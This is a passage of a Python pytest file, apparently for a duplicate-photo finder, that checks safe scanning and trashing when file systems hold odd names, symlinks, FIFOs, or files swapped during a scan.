"""Scanning a hostile file system: odd names, links, FIFOs, unusable folders, interrupted scans."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import unquote_to_bytes, urlsplit

import pytest

from lookalike import cli
from lookalike.core import actions, discovery, report
from lookalike.core.discovery import Findings
from lookalike.core.models import ScanOptions
from lookalike.display_names import display_name
from lookalike.samples import photo
from tests.core.gathered import discovered
from tests.safety.conftest import (
    Act,
    apply_file,
    ends_without_waiting_on,
    make_copies,
    mark,
    needs_byte_names,
    needs_posix,
    save_result,
    scan_folder,
    trashed,
)

NOT_UTF8 = os.fsdecode(b"caf\xe9 \xff.jpg")  # Latin-1 bytes: not valid UTF-8


@needs_byte_names
def test_names_that_are_not_utf8_scan_cache_export_and_trash(
    tmp_path: Path, trash: Path, act: Act, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "photos"
    keep, odd = make_copies(folder, names=("a.jpg", NOT_UTF8))
    result = scan_folder(folder)
    assert {m.path for g in result.groups for m in g.members} == {keep, odd}
    assert scan_folder(folder).stats.cached == 2  # the cache holds the odd name too

    text = report.to_json(result)
    text.encode("utf-8")  # writable as UTF-8
    names = [row["path"] for group in json.loads(text)["groups"] for row in group["files"]]
    assert os.fsencode(str(odd)) in [os.fsencode(name) for name in names]  # lossless
    rows = list(csv.DictReader(io.StringIO(report.to_csv(result), newline="")))
    assert display_name(odd) in [row["path"] for row in rows]  # as the window shows it: caf⟦0xE9⟧ ⟦0xFF⟧.jpg
    assert os.fsencode(odd) in [unquote_to_bytes(urlsplit(row["uri"]).path) for row in rows]  # exact

    act(result, mark(result, {keep}))
    assert not os.path.lexists(odd) and keep.exists()
    assert [os.fsencode(name) for name in trashed(trash)] == [os.fsencode(odd.name)]
    journal = actions.read_journal(actions.default_journal_path())
    assert [os.fsencode(e["path"]) for e in journal if e["state"] == "done"] == [os.fsencode(str(odd))]


@needs_byte_names
def test_a_folder_not_utf8_keeps_its_groups_by_path_and_trashes_the_right_copy(
    tmp_path: Path, trash: Path, act: Act
) -> None:
    """A scan's pictures are held as columns (a folder's text and the names after it) and its kept
    groups name their members by path: a folder and a file whose names are not UTF-8, grouped
    again after a picture was added and then taken from the kept groups, still name the same files,
    and acting on that last result trashes the copy and nothing else."""
    root = tmp_path / "photos"
    folder = root / os.fsdecode(b"f\xeate \xff")
    keep, odd = make_copies(folder, names=("a.jpg", NOT_UTF8))
    grouped = [scan_folder(root)]
    photo(7, (320, 240)).save(folder / "other.jpg", quality=90)
    grouped.append(scan_folder(root))  # grouped again from columns, the new one read
    grouped.append(scan_folder(root))  # nothing changed: the kept groups, decoded by path
    assert grouped[-1].stats.cached == 3
    for result in grouped:
        assert [{m.path for m in g.members} for g in result.groups] == [{keep, odd}]

    act(grouped[-1], mark(grouped[-1], {keep}))
    assert not os.path.lexists(odd) and keep.exists() and (folder / "other.jpg").exists()
    assert [os.fsencode(name) for name in trashed(trash)] == [os.fsencode(odd.name)]


@needs_byte_names
def test_the_command_line_writes_odd_names_losslessly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "photos"
    make_copies(folder, names=("a.jpg", NOT_UTF8))
    out = tmp_path / "result.json"
    assert (
        cli.main(["scan", str(folder), "--json", str(out), "--csv", str(tmp_path / "r.csv"), "--quiet"]) == 0
    )
    data = json.loads(out.read_bytes().decode("utf-8"))
    paths = {os.fsencode(row["path"]) for row in data["groups"][0]["files"]}
    assert os.fsencode(str(folder / NOT_UTF8)) in paths


@needs_posix
def test_symlinked_folders_are_not_followed_unless_asked_and_never_out_of_the_roots(tmp_path: Path) -> None:
    root, outside = tmp_path / "photos", tmp_path / "outside"
    make_copies(root, names=("a.jpg", "inner/b.jpg"))
    make_copies(outside, seed=2, names=("x.jpg", "y.jpg"))
    os.symlink(root / "inner", root / "inner-link")
    os.symlink(outside, root / "outside-link")
    os.symlink(outside / "x.jpg", root / "x-link.jpg")

    plain = scan_folder(root)
    assert sorted(p.name for g in plain.groups for p in (m.path for m in g.members)) == ["a.jpg", "b.jpg"]
    assert sorted(item.path.name for item in plain.skipped) == ["inner-link", "outside-link", "x-link.jpg"]

    followed = scan_folder(root, follow_links=True)
    assert sorted(m.path.name for g in followed.groups for m in g.members) == ["a.jpg", "b.jpg"]
    skipped = {item.path.name: str(item.error) for item in followed.skipped}
    assert set(skipped) == {"outside-link", "x-link.jpg"}
    assert all("outside the scanned folders" in reason for reason in skipped.values())
    data = json.loads(report.to_json(followed))
    assert {Path(item["path"]).name for item in data["skipped"]} == {"outside-link", "x-link.jpg"}


def test_a_file_system_without_inode_numbers_still_finds_every_picture(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What Windows' DirEntry.stat() and some network drives report: st_ino, st_dev, st_nlink 0."""
    make_copies(tmp_path / "photos", names=("a.jpg", "b.jpg", "c.jpg"))
    photo(2, (320, 240)).save(tmp_path / "photos" / "d.jpg")
    real_lstat_of = discovery.lstat_of

    class WithoutInodes:
        def __init__(self, st: os.stat_result) -> None:
            self._st = st

        def __getattr__(self, name: str) -> object:
            return 0 if name in ("st_ino", "st_dev", "st_nlink") else getattr(self._st, name)

    def without_inodes(entry: os.DirEntry[str], path: str) -> os.stat_result:
        return WithoutInodes(real_lstat_of(entry, path))  # type: ignore[return-value]

    monkeypatch.setattr(discovery, "lstat_of", without_inodes)
    found = list(discovered((tmp_path / "photos",), ScanOptions(), Findings()))
    assert sorted(e.path.name for e in found) == ["a.jpg", "b.jpg", "c.jpg", "d.jpg"]
    result = scan_folder(tmp_path / "photos")
    assert sorted(m.path.name for m in result.groups[0].members) == ["a.jpg", "b.jpg", "c.jpg"]


def test_a_status_without_inode_numbers_is_asked_again_of_the_files_whole_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where a folder is listed from the folder opened (POSIX), an entry's path is only its name: a
    status without inode numbers is asked again by the file's whole path, never by a name that the
    working folder may hold too (a file nobody chose)."""
    (tmp_path / "photos").mkdir()
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "photos" / "a.jpg").write_bytes(b"the picture found")
    (tmp_path / "elsewhere" / "a.jpg").write_bytes(b"another file")
    monkeypatch.chdir(tmp_path / "elsewhere")
    children, opened = discovery._listed(tmp_path / "photos")
    try:
        (child,) = children

        class WithoutInodes:
            name = child.name

            def stat(self, *, follow_symlinks: bool = True) -> object:
                return os.stat_result((0,) * 10)

        path = os.path.join(tmp_path / "photos", child.name)
        st = discovery.lstat_of(WithoutInodes(), path)  # type: ignore[arg-type]
    finally:
        if opened is not None:
            os.close(opened)
    assert st.st_ino == os.lstat(tmp_path / "photos" / "a.jpg").st_ino
    assert st.st_size == len(b"the picture found")


@needs_posix
@pytest.mark.parametrize("follow_links", [False, True])
def test_a_folder_swapped_for_a_link_elsewhere_while_the_files_are_found_brings_nothing_from_there(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, follow_links: bool
) -> None:
    """A folder found as a folder, swapped for a link to a folder outside the scan before it is
    listed: discovery takes it for the link it now is (not followed, or followed only inside the
    scanned folders), and no picture from elsewhere is found or grouped."""
    root = tmp_path / "photos"
    make_copies(root / "a")
    make_copies(root / "b", seed=2)
    outside = tmp_path / "elsewhere"
    make_copies(outside, seed=3, names=("x.jpg", "y.jpg"))
    real_listed = discovery._listed

    def swapping(folder: Path, **how: bool) -> tuple[list[os.DirEntry[str]], int | None]:
        if folder == root / "a":  # "b" was found a folder with the others; it is swapped before its turn
            shutil.rmtree(root / "b")
            os.symlink(outside, root / "b")
        return real_listed(folder, **how)

    monkeypatch.setattr(discovery, "_listed", swapping)
    options = ScanOptions(follow_links=follow_links)
    findings = Findings()
    found = discovered((root,), options, findings)
    assert sorted(e.path.relative_to(root).as_posix() for e in found) == ["a/a.jpg", "a/b.jpg"]
    expected = "outside the scanned folders" if follow_links else "not followed"
    assert [(item.path.name, expected in str(item.error)) for item in findings.skipped] == [("b", True)]

    (root / "b").unlink()
    make_copies(root / "b", seed=2)  # swapped again as the scan finds the files
    result = scan_folder(root, follow_links=follow_links)
    members = [member.path for group in result.groups for member in group.members]
    assert sorted(path.relative_to(root).as_posix() for path in members) == ["a/a.jpg", "a/b.jpg"]


@needs_posix
@pytest.mark.parametrize("follow_links", [False, True], ids=["links not followed", "links followed"])
def test_a_folder_above_swapped_for_a_link_while_its_subfolders_wait_brings_nothing_from_there(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, follow_links: bool
) -> None:
    """Hostile: a folder already listed (its subfolders waiting their turn) is moved away and a link
    to a folder outside the scan put in its place while discovery is inside its first subfolder.
    Its next subfolder's path now leads outside: the pictures there are not found (they were, and
    grouped under the scanned folder's name); the subfolder is listed as reached through a folder
    replaced."""
    root = tmp_path / "photos"
    make_copies(root / "a" / "first", names=("mine.jpg",))
    (root / "a" / "second").mkdir()
    outside = tmp_path / "elsewhere"
    make_copies(outside / "second", seed=3, names=("x.jpg", "y.jpg"))
    real_listed = discovery._listed

    def swapping(folder: Path, **how: bool) -> tuple[list[os.DirEntry[str]], int | None]:
        listed = real_listed(folder, **how)
        if folder == root / "a" / "first" and not (root / "a").is_symlink():
            os.rename(root / "a", tmp_path / "a moved")
            os.symlink(outside, root / "a")
        return listed

    monkeypatch.setattr(discovery, "_listed", swapping)
    findings = Findings()
    found = discovered((root,), ScanOptions(follow_links=follow_links), findings)

    assert [e.path.relative_to(root).as_posix() for e in found] == ["a/first/mine.jpg"]
    assert [(e.path.relative_to(root).as_posix(), str(e.error)) for e in findings.errors] == [
        ("a/second", "a folder above it was replaced during the scan (moved away, or a link put there)")
    ]


@needs_posix
def test_a_root_spelt_with_dotdot_after_a_link_is_the_folder_the_system_names(
    tmp_path: Path, trash: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`photos/link/../pics`, where `link` leads to `other/deep`: the system takes it to
    `other/pics` (what `ls` shows), not `photos/pics` (dropping `link/..` as text did: the scan
    read a folder nobody chose, and apply then trashed a copy there)."""
    chosen, not_chosen = tmp_path / "other" / "pics", tmp_path / "photos" / "pics"
    make_copies(chosen, names=("chosen1.jpg", "chosen2.jpg"))
    make_copies(not_chosen, seed=2, names=("NOT_CHOSEN1.jpg", "NOT_CHOSEN2.jpg"))
    (tmp_path / "other" / "deep").mkdir()
    os.symlink(tmp_path / "other" / "deep", tmp_path / "photos" / "link")
    spelt = tmp_path / "photos" / "link" / ".." / "pics"

    result = scan_folder(spelt)

    assert result.roots == (chosen,)
    assert sorted(m.path for g in result.groups for m in g.members) == sorted(chosen.iterdir())
    saved = save_result(result, mark(result, {chosen / "chosen1.jpg"}), tmp_path / "r.json")
    apply_file(saved, capsys=capsys)
    assert trashed(trash) == ["chosen2.jpg"] and len(list(not_chosen.iterdir())) == 2


@needs_byte_names
def test_a_name_with_a_carriage_return_keeps_its_csv_row_whole(tmp_path: Path) -> None:
    """A file name holding a carriage return (Linux allows any byte but / and NUL): the CSV still
    reads back row for row, with the name whole (the field was left unquoted, and the row broke)."""
    keep, odd = make_copies(tmp_path / "photos", names=("a.jpg", "b\rc.jpg"))
    rows = list(csv.DictReader(io.StringIO(report.to_csv(scan_folder(tmp_path / "photos")), newline="")))
    assert sorted(row["path"] for row in rows) == sorted([str(keep), str(odd)])


def test_a_file_given_to_scan_that_is_no_picture_is_said_to_be_none(tmp_path: Path) -> None:
    """A text file given as a thing to scan, beside a folder: said to be neither a folder nor a
    picture (it was left out without a word), once, as a warning of the scan (it was counted as a
    file that could not be read), and the folder is scanned."""
    make_copies(tmp_path / "photos")
    notes = tmp_path / "notes.txt"
    notes.write_text("not a picture")
    result = scan_folder(tmp_path / "photos", notes)
    assert [str(w) for w in result.warnings] == [
        f"{notes} is neither a folder nor a picture, so nothing from it is in this result."
    ]
    assert result.errors == () and len(result.groups) == 1


def test_a_root_name_the_system_refuses_is_said_in_words(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A folder to scan whose name is longer than the system takes: an error in words (it was
    a traceback)."""
    with pytest.raises(SystemExit) as ended:
        cli.main(["scan", str(tmp_path / ("x" * 300) / "photos")])
    said = capsys.readouterr().err
    assert ended.value.code == 2 and "cannot read" in said and "Traceback" not in said, said


@needs_posix
def test_a_fifo_in_the_folder_never_blocks_the_scan(tmp_path: Path) -> None:
    folder = tmp_path / "photos"
    make_copies(folder)
    os.mkfifo(folder / "pipe.jpg")
    result = scan_folder(folder)
    assert len(result.groups) == 1


@needs_posix
def test_a_file_that_becomes_a_fifo_while_scanning_is_skipped(tmp_path: Path) -> None:
    from lookalike.core.fingerprint import make_fingerprinter
    from lookalike.core.models import FileEntry, ScanError

    folder = tmp_path / "photos"
    (picture,) = make_copies(folder, names=("a.jpg",))
    entry = FileEntry.from_stat(picture, picture.stat())
    picture.unlink()
    os.mkfifo(picture)  # swapped between discovery and reading
    outcome = make_fingerprinter(ScanOptions())(entry)
    assert isinstance(outcome, ScanError) and "no longer a regular file" in str(outcome.error)


@pytest.mark.parametrize("kind", ["file in its place", "read-only"])
@needs_posix
def test_an_unusable_cache_folder_gives_one_warning_and_the_scan_goes_on(tmp_path: Path, kind: str) -> None:
    folder = tmp_path / "photos"
    make_copies(folder)
    cache = tmp_path / "cache"
    if kind == "file in its place":
        cache.write_text("not a folder")
    else:
        scan_folder(folder)  # makes the cache
        for name in os.listdir(cache):
            os.chmod(cache / name, 0o444)
        os.chmod(cache, 0o555)
        if os.geteuid() == 0:  # root writes anyway: make the database itself refuse
            (cache / "fingerprints.sqlite3").unlink()
            (cache / "fingerprints.sqlite3").mkdir()
    try:
        result = scan_folder(folder)
    finally:
        os.chmod(cache, 0o755) if cache.is_dir() else None
    assert len(result.groups) == 1
    assert len(result.warnings) == 1 and "cannot be used" in str(result.warnings[0])


def test_outputs_are_atomic_and_never_replace_a_picture(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "photos"
    keep, _ = make_copies(folder)
    before = keep.read_bytes()
    with pytest.raises(SystemExit) as exit_info:
        cli.main(["scan", str(folder), "--json", str(keep), "--quiet"])
    assert exit_info.value.code == 2 and keep.read_bytes() == before
    assert "inside a scanned folder" in capsys.readouterr().err
    out = tmp_path / "result.json"
    out.write_text("an earlier result")
    assert cli.main(["scan", str(folder), "--json", str(out), "--quiet"]) == 0
    assert json.loads(out.read_text())["format"] == "lookalike-scan"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")] == []


def _slow_folder(folder: Path, count: int) -> None:
    folder.mkdir()
    picture = photo(1, (1600, 1200))
    picture.save(folder / "0000.png")
    data = (folder / "0000.png").read_bytes()
    for number in range(1, count):
        (folder / f"{number:04d}.png").write_bytes(data)


@needs_posix
def test_ctrl_c_stops_a_scan_within_2_seconds_with_the_groups_found_so_far(tmp_path: Path) -> None:
    folder = tmp_path / "photos"
    _slow_folder(folder, 400)
    out = tmp_path / "result.json"
    process = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "lookalike",
            "scan",
            str(folder),
            "--json",
            str(out),
            "--workers",
            "1",
            "--quiet",
        ],
        stderr=subprocess.PIPE,
        text=True,
    )
    time.sleep(2.5)
    assert process.poll() is None, "the scan ended before it could be interrupted"
    interrupted_at = time.monotonic()
    process.send_signal(signal.SIGINT)
    code = process.wait(timeout=30)
    assert time.monotonic() - interrupted_at < 2.0
    assert code == 130
    data = json.loads(out.read_text())
    assert data["partial"] is True
    assert 2 <= data["stats"]["images"] < 400
    assert len(data["groups"]) == 1 and len(data["groups"][0]["files"]) == data["stats"]["images"]


@needs_posix
def test_a_move_across_file_systems_leaves_nothing_partial(
    tmp_path: Path, trash: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = Path("/dev/shm")
    if not other.is_dir() or other.stat().st_dev == tmp_path.stat().st_dev:
        pytest.skip("no second file system here")
    keep, copy, _ = make_copies(tmp_path / "photos", names=("a.jpg", "b.jpg", "c.jpg"))
    result = scan_folder(tmp_path / "photos")
    saved = save_result(result, mark(result, {keep}), tmp_path / "r.json")
    with tempfile.TemporaryDirectory(dir=other) as destination:
        outcome = apply_file(saved, "--move-to", destination, capsys=capsys)
        assert outcome.exit_code == 0, outcome.output
        assert sorted(os.listdir(destination)) == ["b.jpg", "c.jpg"]
        assert (Path(destination) / "b.jpg").read_bytes() == keep.read_bytes()
    assert not copy.exists() and keep.exists()


def test_a_move_into_a_full_or_refusing_folder_leaves_the_original(
    tmp_path: Path, trash: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    keep, copy = make_copies(tmp_path / "photos")
    result = scan_folder(tmp_path / "photos")
    saved = save_result(result, mark(result, {keep}), tmp_path / "r.json")
    blocked = tmp_path / "blocked"
    blocked.write_text("a file where the folder should be")
    outcome = apply_file(saved, "--move-to", str(blocked / "sub"), capsys=capsys)
    assert outcome.exit_code == 1 and copy.exists()


def test_the_journal_records_each_intent_before_acting_even_when_killed(tmp_path: Path, trash: Path) -> None:
    folder = tmp_path / "photos"
    names = tuple(f"{n:03d}.jpg" for n in range(300))
    make_copies(folder, names=names)
    result = scan_folder(folder)
    saved = save_result(result, mark(result, {folder / names[0]}), tmp_path / "r.json")
    process = subprocess.Popen(
        [sys.executable, "-m", "lookalike", "apply", str(saved)], stdout=subprocess.DEVNULL
    )
    journal = actions.default_journal_path()
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and len(actions.read_journal(journal)) < 40:
        time.sleep(0.01)
    process.kill()  # kill -9, mid-run
    process.wait(timeout=10)
    entries = actions.read_journal(journal)
    intents = {e["path"] for e in entries if e["state"] == "intent"}
    gone = {str(folder / name) for name in names if not (folder / name).exists()}
    assert gone, "nothing was trashed before the kill"
    assert gone <= intents  # every file that left has its intent on disk
    assert (folder / names[0]).exists()


def test_a_copy_swapped_in_place_while_its_fingerprint_is_a_row_is_read_again(
    tmp_path: Path, trash: Path, act: Act
) -> None:
    """A folder's fingerprints become rows of the cache while another folder is the last scan;
    meanwhile its copy is rewritten in place with another photo of the very same size, its
    modification time set back. The identity the row was kept under no longer fits (the change
    time moved): the rescan reads the file and groups nothing, and acting on the scan from before
    trashes nothing."""
    folder, other = tmp_path / "photos", tmp_path / "other"
    keeper, copy = make_copies(folder, seed=4, names=("keeper.jpg", "copy.jpg"))
    before = scan_folder(folder)
    assert [sorted(m.path.name for m in g.members) for g in before.groups] == [["copy.jpg", "keeper.jpg"]]
    make_copies(other, seed=9, names=("x.jpg",))
    scan_folder(other)  # the photos' fingerprints are now rows

    stat = copy.stat()
    stranger = tmp_path / "stranger.jpg"
    photo(70, (200, 150)).save(stranger, quality=60)
    data = stranger.read_bytes()
    assert len(data) < stat.st_size
    with copy.open("r+b") as file:  # the same file, the same size: a JPEG ignores what follows its end
        file.write(data + b"\0" * (stat.st_size - len(data)))
    os.utime(copy, ns=(stat.st_atime_ns, stat.st_mtime_ns))
    assert (copy.stat().st_size, copy.stat().st_mtime_ns) == (stat.st_size, stat.st_mtime_ns)

    again = scan_folder(folder)
    assert again.groups == () and again.stats.cached == 1  # the keeper from its row, the copy read

    outcome = act(before, mark(before, {keeper}))
    assert trashed(trash) == [] and copy.exists() and keeper.exists()
    assert outcome.skipped(), outcome


@pytest.fixture
def thumbs_made_ahead(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """How many thumbs each reader making them ahead is given, one started for any number."""
    from lookalike.core import readers

    monkeypatch.setattr(readers, "THUMBS_AHEAD_FROM", 1)
    made_ahead: list[int] = []
    start = readers.ThumbsAhead.__init__

    def starting(self: readers.ThumbsAhead, wanted: Any, *args: Any) -> None:
        made_ahead.append(len(wanted))
        start(self, wanted, *args)

    monkeypatch.setattr(readers.ThumbsAhead, "__init__", starting)
    return made_ahead


def small_pictures_scanned_then_copied(tmp_path: Path, suffix: str, count: int) -> tuple[Path, ScanOptions]:
    """`count` small pictures scanned into a cache, then a re-saved copy of each added."""
    from lookalike.core.scan import scan

    folder = tmp_path / "photos"
    folder.mkdir()
    for seed in range(count):
        photo(seed, (64, 48)).save(folder / f"small-{seed}{suffix}")
    options = ScanOptions(cache_dir=tmp_path / "cache", workers=2)
    scan([folder], options)
    for seed in range(count):
        photo(seed, (64, 48)).save(folder / f"small-{seed} copy.jpg", quality=92)
    return folder, options


def saved_over_as_grouping_begins(pictures: dict[Path, Any]) -> Any:
    """A scan's progress callback that saves each of `pictures` over its path, keeping its size,
    as grouping begins; `pictures` is emptied then."""
    from lookalike.core.models import Phase, Progress

    def save_over(progress: Progress) -> None:
        if progress.phase is Phase.MATCH and pictures:
            for path, picture in pictures.items():
                size = path.stat().st_size
                picture.save(path)
                assert path.stat().st_size == size
            pictures.clear()

    return save_over


def test_old_small_pictures_edited_as_a_rescan_groups_give_the_thumbs_made_ahead_none(
    tmp_path: Path, thumbs_made_ahead: list[int], trash: Path, act: Act
) -> None:
    """Small pictures keep no thumb in the cache: a rescan after copies of them were added has a
    reader make their thumbs again from their files, ahead of the checks. Hostile: as the rescan
    begins to group, two of the old pictures are edited a little, keeping their size (a 64x48 BMP
    is always as long). Their thumbs made ahead are none (their files no longer hold the content
    their fingerprints name), so they are grouped with nothing, though they still look like their
    copies; the rest are, and acting on the result trashes only the copies of those."""
    from lookalike.core.scan import scan

    folder, options = small_pictures_scanned_then_copied(tmp_path, ".bmp", 8)
    strangers = {folder / f"small-{seed}.bmp": photo(seed, (64, 48)) for seed in (2, 5)}
    for stranger in strangers.values():  # edited a little: they still look like their copies
        stranger.paste((255, 0, 0), (10, 10, 13, 13))

    result = scan([folder], options, progress=saved_over_as_grouping_begins(strangers))

    assert thumbs_made_ahead == [8] and not strangers
    grouped = sorted(sorted(m.path.name for m in g.members) for g in result.groups)
    assert grouped == [[f"small-{seed} copy.jpg", f"small-{seed}.bmp"] for seed in (0, 1, 3, 4, 6, 7)]
    done = act(result, mark(result, {folder / f"small-{seed}.bmp" for seed in range(8)}))
    assert trashed(trash) == sorted(f"small-{seed} copy.jpg" for seed in (0, 1, 3, 4, 6, 7))
    assert not done.skipped()
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [f"small-{seed}.bmp" for seed in range(8)] + ["small-2 copy.jpg", "small-5 copy.jpg"]
    )


@needs_posix
def test_an_old_small_picture_swapped_for_a_fifo_as_a_rescan_groups_never_stalls_the_thumbs_made_ahead(
    tmp_path: Path, thumbs_made_ahead: list[int], trash: Path, act: Act
) -> None:
    """Hostile: as a rescan begins to group, an old small picture whose copy was added is swapped
    for a FIFO, which nothing ever writes to, and another for a folder. The reader making their
    thumbs ahead opens neither for reading (a FIFO would block it for good), so both give no
    thumb: the scan ends in seconds, those two are grouped with nothing, the rest are, and acting
    trashes only the others' copies."""
    from lookalike.core.models import Phase, Progress
    from lookalike.core.scan import scan

    folder, options = small_pictures_scanned_then_copied(tmp_path, ".png", 6)
    fifo, folder_now = folder / "small-1.png", folder / "small-4.png"
    swapped: list[bool] = []

    def swap_when_grouping_begins(progress: Progress) -> None:
        if progress.phase is Phase.MATCH and not swapped:
            fifo.unlink()
            os.mkfifo(fifo)
            folder_now.unlink()
            folder_now.mkdir()
            swapped.append(True)

    started = time.monotonic()
    result = scan([folder], options, progress=swap_when_grouping_begins)

    assert swapped and thumbs_made_ahead == [6] and time.monotonic() - started < 30
    grouped = sorted(sorted(m.path.name for m in g.members) for g in result.groups)
    assert grouped == [[f"small-{seed} copy.jpg", f"small-{seed}.png"] for seed in (0, 2, 3, 5)]
    done = act(result, mark(result, {folder / f"small-{seed}.png" for seed in range(6)}))
    assert trashed(trash) == sorted(f"small-{seed} copy.jpg" for seed in (0, 2, 3, 5))
    assert not done.skipped()
    assert fifo.is_fifo() and folder_now.is_dir()
    assert (folder / "small-1 copy.jpg").exists() and (folder / "small-4 copy.jpg").exists()


@needs_posix
def test_an_old_small_picture_swapped_for_a_link_to_its_bytes_elsewhere_keeps_its_copy_from_the_trash(
    tmp_path: Path, thumbs_made_ahead: list[int], trash: Path, act: Act
) -> None:
    """Hostile: as a rescan begins to group, an old small picture is swapped for a symbolic link
    to a file outside the scanned folder that holds the very same bytes. The thumb made ahead
    follows the link to the same content, so the picture and its added copy are grouped; but the
    picture marked KEEP is no longer the file that was scanned, so acting trashes its copy only
    where the keeper still is: here not at all, with a reason, while the other copies go."""
    from lookalike.core.models import Phase, Progress
    from lookalike.core.scan import scan

    folder, options = small_pictures_scanned_then_copied(tmp_path, ".png", 6)
    keeper = folder / "small-2.png"
    elsewhere = tmp_path / "elsewhere.png"
    elsewhere.write_bytes(keeper.read_bytes())
    swapped: list[bool] = []

    def swap_when_grouping_begins(progress: Progress) -> None:
        if progress.phase is Phase.MATCH and not swapped:
            keeper.unlink()
            keeper.symlink_to(elsewhere)
            swapped.append(True)

    result = scan([folder], options, progress=swap_when_grouping_begins)

    assert swapped and thumbs_made_ahead == [6]
    grouped = sorted(sorted(m.path.name for m in g.members) for g in result.groups)
    assert ["small-2 copy.jpg", "small-2.png"] in grouped and len(grouped) == 6
    done = act(result, mark(result, {folder / f"small-{seed}.png" for seed in range(6)}))
    assert trashed(trash) == sorted(f"small-{seed} copy.jpg" for seed in (0, 1, 3, 4, 5))
    [why] = done.skipped()
    assert "the copy you keep was replaced by a link after the scan" in why
    assert (folder / "small-2 copy.jpg").exists() and keeper.is_symlink() and elsewhere.exists()


# How long a test waits for a reader of checks to be ready: it starts in 0.3 s on an idle machine.
READER_READY_MOST = 30


@pytest.mark.parametrize("made", ["beside the pass", "ahead of the pass"])
def test_copies_swapped_as_a_rescan_groups_are_never_trashed_whatever_a_reader_of_checks_saw(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, trash: Path, act: Act, made: str
) -> None:
    """Small pictures are scanned, then brighter copies of them added: a rescan has a reader make
    many of their pixel checks and closer looks at their files, beside the pass's thread, or ahead
    of the pass (the reader that read the copies, kept). Hostile: as the rescan begins to group,
    two copies are swapped for other pictures of the very same size. The rest are grouped with
    their originals; acting with every original as KEEP trashes those copies alone, and the
    swapped files stay where they are, as they are now."""
    from lookalike.core import matching, readers
    from lookalike.core.scan import scan

    if made == "beside the pass":
        monkeypatch.setattr(matching, "CHECKS_APART_FROM", 1)
    else:
        monkeypatch.setattr(matching, "CHECKS_APART_FROM", 10**9)
        for name, value in (("THUMBS_AHEAD_FROM", 1), ("READ_APART_FROM", 1), ("WAITED_FOR_ANYWAY", True)):
            monkeypatch.setattr(readers, name, value)
    handed: list[int] = []
    reader_made_one = threading.Event()
    real_made_apart, real_checked = matching._Looks.made_apart, matching._checked

    def made_apart(self: Any, *args: Any) -> None:
        handed.append(1)
        reader_made_one.set()
        real_made_apart(self, *args)

    def checked_slowly_here(*args: Any) -> Any:
        # The reader, ready meanwhile, makes most of them: this thread waits for its first (on a
        # loaded machine, the reader was not ready before this thread had made them all).
        reader_made_one.wait(READER_READY_MOST)
        time.sleep(0.05)
        return real_checked(*args)

    monkeypatch.setattr(matching._Looks, "made_apart", made_apart)
    folder = tmp_path / "photos"
    folder.mkdir()
    for seed in range(16):
        photo(seed, (64, 48)).save(folder / f"small-{seed:02}.png")
    options = ScanOptions(cache_dir=tmp_path / "cache", workers=2)
    scan([folder], options)
    for seed in range(16):  # a little brighter; BMP files, all of one size, as the pictures swapped in
        brighter = photo(seed, (64, 48)).point(lambda level: min(255, level + 6))
        brighter.save(folder / f"small-{seed:02} copy.bmp")
    others = {folder / f"small-{seed:02} copy.bmp": photo(seed + 100, (64, 48)) for seed in (3, 7)}
    swapped = dict(others)
    monkeypatch.setattr(matching, "_checked", checked_slowly_here)

    result = scan([folder], options, progress=saved_over_as_grouping_begins(swapped))

    assert handed and not swapped
    grouped = {m.path for g in result.groups for m in g.members}
    kept_copies = {folder / f"small-{seed:02} copy.bmp" for seed in range(16)} - others.keys()
    assert len(kept_copies & grouped) >= 10
    originals = {folder / f"small-{seed:02}.png" for seed in range(16)}
    done = act(result, mark(result, originals))
    assert trashed(trash) == sorted(path.name for path in kept_copies & grouped)
    for path, other in others.items():  # still there, as swapped in
        assert path.exists() and path.read_bytes() == _bmp_bytes(other)
    swapped_grouped = len(others.keys() & grouped)  # grouped by what the scan read of them, or not
    assert len([reason for reason in done.skipped() if "changed after the scan" in reason]) == swapped_grouped


def _bmp_bytes(picture: Any) -> bytes:
    import io

    saved = io.BytesIO()
    picture.save(saved, format="BMP")
    return saved.getvalue()


@pytest.mark.parametrize("swap", ["the cache file for a folder", "the cache folder for a file"])
def test_a_cache_swapped_as_a_rescan_finds_the_files_leaves_no_reader_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, swap: str
) -> None:
    """A rescan starts its reader before it finds the files, since the cache file is there.
    Hostile: as it finds them, the cache file is swapped for a folder of that name (the cache is
    set aside and made anew), or the cache's folder for a file (the scan goes on without one).
    The scan says what became of the cache, groups just as before, and no reader process
    outlives it."""
    from lookalike.core import readers
    from lookalike.core.cache import CACHE_FILE
    from lookalike.core.models import Phase, Progress
    from lookalike.core.scan import scan

    monkeypatch.setattr(readers, "READ_APART_FROM", 1)
    folder = tmp_path / "photos"
    folder.mkdir()
    for seed in range(12):
        photo(seed, (64, 48)).save(folder / f"small-{seed:02}.png")
        if seed % 4 == 0:
            photo(seed, (64, 48)).save(folder / f"small-{seed:02} copy.jpg", quality=92)
    options = ScanOptions(cache_dir=tmp_path / "cache", workers=2)
    first = scan([folder], options)
    started: list[readers.Reader] = []
    start = readers.Reader.__init__

    def starting(self: readers.Reader, *args: Any, **kwargs: Any) -> None:
        start(self, *args, **kwargs)
        started.append(self)

    monkeypatch.setattr(readers.Reader, "__init__", starting)
    cache_file = tmp_path / "cache" / CACHE_FILE
    swapped: list[bool] = []

